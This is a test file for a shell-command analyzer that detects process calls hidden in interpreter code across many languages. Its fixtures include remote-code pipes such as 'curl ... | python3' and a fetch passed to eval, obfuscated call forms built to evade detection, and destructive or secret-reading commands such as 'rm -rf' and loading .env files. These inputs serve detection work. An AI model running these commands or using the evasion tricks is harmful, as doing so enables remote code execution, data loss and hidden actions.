/**
 * Commands interpreter code starts (compiler/runtime/shell/inline.ts): each language's process calls are read, a
 * literal command becomes a nested command of the line, and code the line does not show is opaque.
 */
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../compiler/runtime/shell/index.js';
import { inlineCode } from '../../../compiler/runtime/shell/inline.js';
import { literal } from '../../../compiler/runtime/shell/literals.js';

const argvs = (line: string): string[][] => analyzeShell(line).commands.map((c) => [...c.argv]);
const opaque = (line: string): string | undefined => analyzeShell(line).commands.find((c) => c.opaque !== undefined)?.opaque;
const PUSH = ['git', 'push', '-f'];

/** [family, code, what it runs: shell lines and argvs] */
const READS: readonly (readonly [string, string, readonly string[], readonly (readonly string[])[]])[] = [
  ['python', 'import os; os.system("git push -f")', ['git push -f'], []],
  ['python', "import os\nos.popen('ls -la').read()", ['ls -la'], []],
  ['python', 'import subprocess; subprocess.run(["git", "push", "-f"], check=True)', [], [PUSH]],
  ['python', "import subprocess; subprocess.check_output('git push -f', shell=True)", ['git push -f'], []],
  ['python', "import subprocess; subprocess.call('git')", [], [['git']]],
  ['python', 'import subprocess as sp; sp.Popen("git push -f".split())', [], [PUSH]],
  ['python', 'import shlex, subprocess; subprocess.run(shlex.split("git push -f"))', [], [PUSH]],
  ['python', 'from subprocess import run as r, PIPE; r(["git", "push", "-f"], stdout=PIPE)', [], [PUSH]],
  ['python', 'from os import system; system("git " "push -f")', ['git push -f'], []],
  ['python', 'import os; os.execlp("git", "git", "push", "-f")', [], [PUSH]],
  ['python', 'import os; os.execvp("git", ["git", "push", "-f"])', [], [PUSH]],
  ['python', 'import os; os.spawnlp(os.P_WAIT, "git", "git", "push", "-f")', [], [PUSH]],
  ['python', 'import asyncio; asyncio.create_subprocess_exec("git", "push", "-f")', [], [PUSH]],
  ['python', 'import os; os.system("git push \\x2df")', ['git push -f'], []],
  ['python', 'import json, sys; print(json.load(sys.stdin)["name"])', [], []],
  // Python joins a backslash-newline and reads identifiers NFKC-normalized (fullwidth letters)
  ['python', 'import os\nos.\\\nsystem("git push -f")', ['git push -f'], []],
  ['python', 'import os; \uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d("git push -f")', ['git push -f'], []],
  ['python', 'import os; os.system("git push -\\146")', ['git push -f'], []],
  // a Python 3.12 f-string nesting its own quotes does not hide the call after it
  ['python', 'x = f"{\'"\'}"; import os; os.system(\'git push -f\')', ['git push -f'], []],
  ['node', 'require("child_process").execSync("git push -f", { stdio: "inherit" })', ['git push -f'], []],
  ['node', "const cp = require('node:child_process'); cp.spawnSync('git', ['push', '-f'])", [], [PUSH]],
  ['node', "const { execFileSync: run } = require('child_process'); run('git', ['push', '-f'])", [], [PUSH]],
  ['node', "import { spawn } from 'child_process'; spawn('git push -f', { shell: true })", ['git push -f'], []],
  ['node', "require('child_process').fork('deploy.js', ['--prod'])", [], [['node', 'deploy.js', '--prod']]],
  ['node', 'const m = /a/.exec("a"); console.log(m)', [], []],
  ['node', 'process.execve("/usr/bin/git", ["git", "push", "-f"])', [], [['/usr/bin/git', 'push', '-f']]],
  // argv[0] is a label: the path is the program that runs
  ['python', 'import os; os.execv("/usr/bin/git", ["ls", "push", "-f"])', [], [['/usr/bin/git', 'push', '-f']]],
  ['bun', 'Bun.spawnSync(["git", "push", "-f"])', [], [PUSH]],
  ['bun', 'Bun.spawn({ cmd: ["git", "push", "-f"], stdout: "inherit" })', [], [PUSH]],
  ['bun', 'import { $ } from "bun"; await $`git push -f`', ['git push -f'], []],
  ['deno', 'new Deno.Command("git", { args: ["push", "-f"] }).outputSync()', [], [PUSH]],
  ['perl', 'system("git push -f") == 0 or die', ['git push -f'], []],
  ['perl', 'system "git", "push", "-f";', [], [PUSH]],
  ['perl', 'my $o = `git push -f`; print $o', ['git push -f'], []],
  ['perl', 'print qx{git push -f}', ['git push -f'], []],
  ['perl', 'open(my $p, "-|", "git", "push", "-f"); print <$p>', [], [PUSH]],
  ['perl', 'open(P, "git push -f |"); print <P>', ['git push -f'], []],
  ['perl', 'open(my $f, "<", "notes.txt"); print <$f>', [], []],
  ['ruby', 'system("git", "push", "-f")', [], [PUSH]],
  ['ruby', 'puts `git push -f`', ['git push -f'], []],
  ['ruby', 'Open3.capture2("git push -f")', ['git push -f'], []],
  ['ruby', "IO.popen(['git', 'push', '-f']).read", [], [PUSH]],
  ['php', 'echo shell_exec("git push -f");', ['git push -f'], []],
  ['php', 'proc_open(["git", "push", "-f"], [], $pipes);', [], [PUSH]],
  // PHP function names are case-insensitive and may be namespace-qualified
  ['php', 'SYSTEM("git push -f"); \\Shell_Exec("git push -f");', ['git push -f', 'git push -f'], []],
  ['ruby', 'Kernel::system("git", "push", "-f")', [], [PUSH]],
  ['lua', 'os.execute("git push -f")', ['git push -f'], []],
  ['lua', 'local f = io.popen [[git push -f]]', ['git push -f'], []],
  ['awk', 'BEGIN { system("git push " "-f") }', ['git push -f'], []],
  ['awk', '{ print $0 | "sort -u" }', ['sort -u'], []],
  ['awk', 'BEGIN { while (("git push -f" | getline l) > 0) print l }', ['git push -f'], []],
  ['awk', '/push|pull/ || NR == 1 { print $1 }', [], []],
  ['rscript', 'system2("git", c("push", "-f"))', [], [PUSH]],
  ['julia', 'run(`git push -f`)', ['git push -f'], []],
  ['osascript', 'do shell script "git push -f" with administrator privileges', ['git push -f'], []],
  ['pwsh', 'git push --force; Get-Date', ['git push --force; Get-Date'], []],
];

/** [family, code, words the opaque reason names] */
const OPAQUE: readonly (readonly [string, string, RegExp])[] = [
  ['python', 'import os; c = "git push -f"; os.system(c)', /run time \(os\.system\)/],
  ['python', 'import os; f = os.system; f("ls")', /os\.system/],
  ['python', 'import os; os.system(f"git push {flag}")', /os\.system/],
  ['python', 'import os; os.system("git push " + flag)', /os\.system/],
  ['python', 'getattr(__import__("os"), "sys" + "tem")("git push -f")', /runs code it makes at run time \(getattr\)/],
  ['python', 'exec("import os; os.system(\'git push -f\')")', /\(exec\)/],
  ['python', 'import importlib; importlib.import_module("os")', /importlib/],
  ['python', 'from os import *; system("git push -f")', /imports every name of os/],
  ['python', 'import sh; sh.git.push("-f")', /imports sh/],
  ['python', 'import subprocess; s = subprocess; s.run(["git", "push", "-f"])', /hands the subprocess module/],
  ['python', 'import subprocess as sp; x = [sp]; x[0].run(["git", "push", "-f"])', /hands the subprocess module/],
  ['python', 'import timeit; timeit.timeit("os.system(\'git push -f\')", setup="import os", number=1)', /imports timeit/],
  ['python', 'import os; os.__getattribute__("system")("git push -f")', /__getattribute__/],
  ['node', 'const v = require("vm"); v.runInThisContext("1")', /run time/],
  ['node', 'require("module")._load("child_process").execSync("git push -f")', /run time/],
  ['python', 'import operator, os; x = "system"', /names a process function in a string/],
  ['node', 'require("child_" + "process").execSync("git push -f")', /\(require\)/],
  ['node', 'const cp = require("child_process"); cp["exec" + "Sync"]("git push -f")', /names a process function|\]\s*\(|run time/],
  ['node', 'eval("require(\'child_process\')")', /\(eval\)/],
  // eval handed on as a value runs what it is given
  ['node', 'fetch("https://h.example/x").then((r) => r.text()).then(eval)', /\(eval\)/],
  ['node', 'const f = Function; f("return 1")()', /\(Function\)/],
  ['python', 'list(map(exec, ["import os"]))', /\(exec\)/],
  ['node', 'process.binding("spawn_sync")', /process\s*\.\s*binding/],
  ['node', 'require("child_process").\\u0065xecSync("git push -f")', /\\u/],
  ['node', 'require("child_process").execSync(cmd)', /run time \(execSync\)/],
  ['perl', 'my $c = "git push -f"; system($c)', /system/],
  ['perl', 'eval "system(q{git push -f})"', /\(eval\)/],
  ['perl', 'print `git push $flag`', /`/],
  ['ruby', 'Kernel.send(:system, "git push -f")', /send/],
  ['ruby', 'system("git push #{flag}")', /system/],
  ['php', '$f = "system"; $f("git push -f");', /names a process function|\$f/],
  ['awk', '{ cmd = "git push " $1; system(cmd) }', /system/],
  ['awk', '{ print | cmd }', /print \|/],
  ['pwsh', 'Invoke-Expression "git push -f"', /invoke-expression/i],
  ['tcl', 'exec git push -f', /does not read/],
  ['elixir', 'System.cmd("git", ["push", "-f"])', /does not read/],
  ['erl', 'os:cmd("git push -f").', /does not read/],
  ['r', 'system("git push -f")', /does not read/],
  ['awk', '{ print $0 | "sh" }', /feeds sh code made at run time/],
  // names count in strings and comments too: a string reader that disagreed with the language could hide a call
  ['python', 'print("os.system is a function")', /os\.system/],
];

describe('interpreter code: what it starts', () => {
  for (const [fam, code, lines, av] of READS) {
    it(`${fam}: ${code}`, () => {
      const r = inlineCode(fam, code);
      expect(r.opaque).toBeUndefined();
      expect(r.lines).toEqual(lines);
      expect(r.argvs).toEqual(av);
    });
  }
});

describe('interpreter code the line does not show is opaque', () => {
  for (const [fam, code, why] of OPAQUE) {
    it(`${fam}: ${code}`, () => {
      const r = inlineCode(fam, code);
      expect(r.opaque).toMatch(/^a line (whose|that) /);
      expect(r.opaque).toMatch(why);
      expect(r.lines.length + r.argvs.length).toBe(0);
    });
  }
});

describe('literals', () => {
  it('reads strings, escapes, concatenation and lists per language', () => {
    expect(literal(`'a' 'b'`, 'python')).toBe('ab');
    expect(literal(`r'\\n'`, 'python')).toBe('\\n');
    expect(literal(`"""a"b"""`, 'python')).toBe('a"b');
    expect(literal(`f"{x}"`, 'python')).toBeUndefined();
    expect(literal(`f"{{x}}"`, 'python')).toBe('{{x}}');
    expect(literal(`"a" + 'b'`, 'js')).toBe('ab');
    expect(literal('`a${b}`', 'js')).toBeUndefined();
    expect(literal(`"\\u0067it"`, 'js')).toBe('git');
    expect(literal(`'a' . "b"`, 'perl')).toBe('ab');
    expect(literal(`"a $b"`, 'perl')).toBeUndefined();
    expect(literal(`'a $b'`, 'perl')).toBe('a $b');
    expect(literal(`qw(git push -f)`, 'perl')).toEqual(PUSH);
    expect(literal(`%w[git push -f]`, 'ruby')).toEqual(PUSH);
    expect(literal(`"a#{b}"`, 'ruby')).toBeUndefined();
    expect(literal(`["git", 'push', "-f",]`, 'python')).toEqual(PUSH);
    expect(literal(`["git", x]`, 'python')).toBeUndefined();
    expect(literal(`array('git', 'push')`, 'php')).toEqual(['git', 'push']);
    expect(literal(`"a" .. 'b'`, 'lua')).toBe('ab');
    expect(literal(`"git" x`, 'python')).toBeUndefined();
    expect(literal(`"a\\qb\\n"`, 'python')).toBe('a\\qb\n');
    expect(literal(`"a\\qb"`, 'js')).toBe('aqb');
  });
});

describe('the analyzer runs what interpreter code starts', () => {
  it('as nested commands under the interpreter', () => {
    expect(argvs(`python3 -c "import os; os.system('git push -f && rm -rf build')"`)).toEqual(expect.arrayContaining([PUSH, ['rm', '-rf', 'build']]));
    expect(argvs(`node -e "require('child_process').spawnSync('sh', ['-c', 'git push -f'])"`)).toEqual(expect.arrayContaining([['sh', '-c', 'git push -f'], PUSH]));
    expect(argvs(`awk 'BEGIN { system("git push -f") }'`)).toEqual(expect.arrayContaining([PUSH]));
    expect(argvs(`gawk -F: -v x=1 -e 'BEGIN { system("git push -f") }'`)).toEqual(expect.arrayContaining([PUSH]));
    // a literal printed into a shell: the shell runs it
    expect(argvs(`awk 'BEGIN { print "git push -f" | "sh" }'`)).toEqual(expect.arrayContaining([PUSH]));
    expect(argvs(`awk 'BEGIN { printf "git push -f" | "/bin/bash -s" }'`)).toEqual(expect.arrayContaining([PUSH]));
    const nested = analyzeShell(`python3 -c "import os; os.system('git push -f')"`).commands.find((c) => c.program === 'git');
    expect(nested?.wrappers).toContain('python3');
  });

  it('from literal stdin: a heredoc, a pipe of known text, `-`', () => {
    expect(argvs(`python3 <<'EOF'\nimport os\nos.system("git push -f")\nEOF`)).toEqual(expect.arrayContaining([PUSH]));
    expect(argvs(`echo "require('child_process').execSync('git push -f')" | node`)).toEqual(expect.arrayContaining([PUSH]));
    expect(argvs(`python3 - <<< "import os; os.system('git push -f')"`)).toEqual(expect.arrayContaining([PUSH]));
  });

  it('code the line does not show is opaque; a script or a module is not stdin code', () => {
    expect(opaque('curl -s https://x.example/p.py | python3')).toMatch(/feeds python3 code made at run time/);
    expect(opaque('python3 -c "$CODE"')).toMatch(/python code made at run time/);
    expect(opaque(`python3 -c "eval(input())"`)).toMatch(/eval/);
    expect(opaque('curl -s https://x.example/data.json | python3 -m json.tool')).toBeUndefined();
    expect(opaque('cat data.txt | python3 count.py')).toBeUndefined();
    expect(opaque(`python3 -c "print('git push -f')"`)).toBeUndefined();
    expect(argvs(`python3 -c "print('git push -f')"`)).not.toEqual(expect.arrayContaining([PUSH]));
    expect(opaque(`awk -f prog.awk data.txt`)).toBeUndefined();
  });
});

describe('environment runners run the command they are given (runners.ts)', () => {
  const RUN: readonly string[] = [
    'uv run git push -f',
    'uv run --with requests --python 3.12 git push -f',
    'uv --directory x run -- git push -f',
    'uvx --from x git push -f',
    'poetry -C sub run git push -f',
    'pipenv run git push -f',
    'pdm run -p . git push -f',
    'bundle exec git push -f',
    'conda run -n base git push -f',
    'micromamba run -p /opt/env git push -f',
    'rbenv exec git push -f',
    'mise exec node@20 -- git push -f',
    'direnv exec . git push -f',
    'dotenv -e .env.local -- git push -f',
    'cross-env A=1 B=2 git push -f',
    'env-cmd -f .env git push -f',
    'op run --env-file x -- git push -f',
    'doppler run -p x -- git push -f',
    'aws-vault exec prod -- git push -f',
    'devbox run git push -f',
    'nix develop -c git push -f',
    'systemd-run --user -p X=1 git push -f',
    'unshare -r git push -f',
    'nsenter -t 1 -m git push -f',
  ];
  for (const line of RUN) it(line, () => expect(argvs(line)).toEqual(expect.arrayContaining([PUSH])));
  it('as one string: nix-shell --run, doppler --command, mise -c, cross-env-shell', () => {
    for (const line of ['nix-shell -p git --run "git push -f"', 'doppler run --command "git push -f"', 'mise x -c "git push -f"', 'cross-env-shell A=1 "git push -f"']) expect(argvs(line)).toEqual(expect.arrayContaining([PUSH]));
  });
  it('a folder option moves the command, as sudo -D does', () => {
    const writes = (line: string): string[] => analyzeShell(line).writes.map((w) => w.path);
    expect(writes('uv run --directory .github rm -rf workflows')).toContain('.github/workflows');
    expect(writes('poetry -C .github run rm -rf workflows')).toContain('.github/workflows');
    expect(writes('conda run -n x --cwd .github rm -rf workflows')).toContain('.github/workflows');
  });
  it('an env file a runner loads is read by the runner', () => {
    const reads = (line: string): string[] => analyzeShell(line).reads.map((r) => `${r.path} ${r.via}`);
    expect(reads('uv run --env-file .env printenv')).toContain('.env uv');
    expect(reads('op run --env-file=.env -- env')).toContain('.env op');
    expect(reads('env-cmd -f .env.prod node app.js')).toContain('.env.prod env-cmd');
    expect(reads('dotenv -e .env -- printenv')).toContain('.env dotenv');
  });
  it('a module, a subcommand that runs nothing, a lone runner', () => {
    expect(argvs('uv run -m pytest -q')).toEqual(expect.arrayContaining([['python', '-m', 'pytest', '-q']]));
    expect(argvs('poetry install')).toEqual([['poetry', 'install']]);
    expect(argvs('mise exec node@20')).toEqual([['mise', 'exec', 'node@20']]);
    expect(argvs('uv run')).toEqual([['uv', 'run']]);
  });
});

describe('interpreter scripts in files are named for the runtime to read (runs.ts, scripts.ts)', () => {
  const runs = (line: string): string[] => analyzeShell(line).runs.map((r) => `${r.kind}:${r.lang ?? ''}:${r.path}`);
  it('a script an interpreter runs, not inline code or a module it cannot find', () => {
    expect(runs('python3 -u deploy.py --prod')).toEqual(['code:python:deploy.py']);
    // a module run with -m, with its package's __init__.py (code-imports.ts); a preloaded module (preloads.ts)
    expect(runs('python3 -W ignore -m tools.release')).toEqual(['code:python:tools/release.py', 'code:python:tools/__init__.py', 'code:python:tools/release/__init__.py', 'code:python:tools/release/__main__.py']);
    expect(runs('node --require ./x.js build.js')).toEqual(['code:node:./x.js', 'code:node:build.js']);
    expect(runs('deno run -A main.ts')).toEqual(['code:deno:main.ts']);
    expect(runs('bun scripts/x.ts')).toContain('code:bun:scripts/x.ts');
    expect(runs('awk -F, -f prog.awk data.csv')).toEqual(['code:awk:prog.awk']);
    expect(runs('pwsh -File build.ps1')).toEqual(['code:pwsh:build.ps1']);
    expect(runs('python3 -c "print(1)" x.py')).toEqual([]);
    expect(runs('python3')).toEqual([]);
    expect(runs('awk "{print}" data.csv')).toEqual([]);
  });
  it('code in a file is read as written: literal calls, with what is made at run time passed over', () => {
    const r = inlineCode('python', 'import os, sys\nos.system(sys.argv[1])\nos.system("git push -f")\ngetattr(os, "x")', true);
    expect(r).toEqual({ lines: ['git push -f'], argvs: [] });
    expect(inlineCode('tcl', 'exec git push -f', true)).toEqual({ lines: [], argvs: [] });
  });
});

describe('code that runs its own arguments (code-paths.ts withArgs)', () => {
  it('sys.argv[1:], process.argv.slice(N), @ARGV and *ARGV are the words after the code', () => {
    expect(argvs(`python3 -c 'import subprocess, sys; subprocess.run(sys.argv[1:])' git push -f`)).toContainEqual(PUSH);
    expect(argvs(`node -e 'require("child_process").execFileSync("git", process.argv.slice(1))' push -f`)).toContainEqual(PUSH);
    expect(inlineCode('python', 'import subprocess, sys\nsubprocess.run(sys.argv[2:])', true, ['x', 'git', 'push', '-f']).argvs).toContainEqual(PUSH);
    expect(inlineCode('node', 'require("child_process").execFileSync(process.argv[2], process.argv.slice(3))', true, ['git', 'push', '-f']).argvs).toContainEqual(PUSH);
    expect(inlineCode('perl', 'system(@ARGV)', true, ['git', 'push', '-f']).argvs).toContainEqual(PUSH);
    expect(inlineCode('ruby', 'system(*ARGV)', true, ['git', 'push', '-f']).argvs).toContainEqual(PUSH);
    expect(inlineCode('python', 'import subprocess, sys\nsubprocess.run(sys.argv[1:])', true, []).argvs).toEqual([]);
  });
});
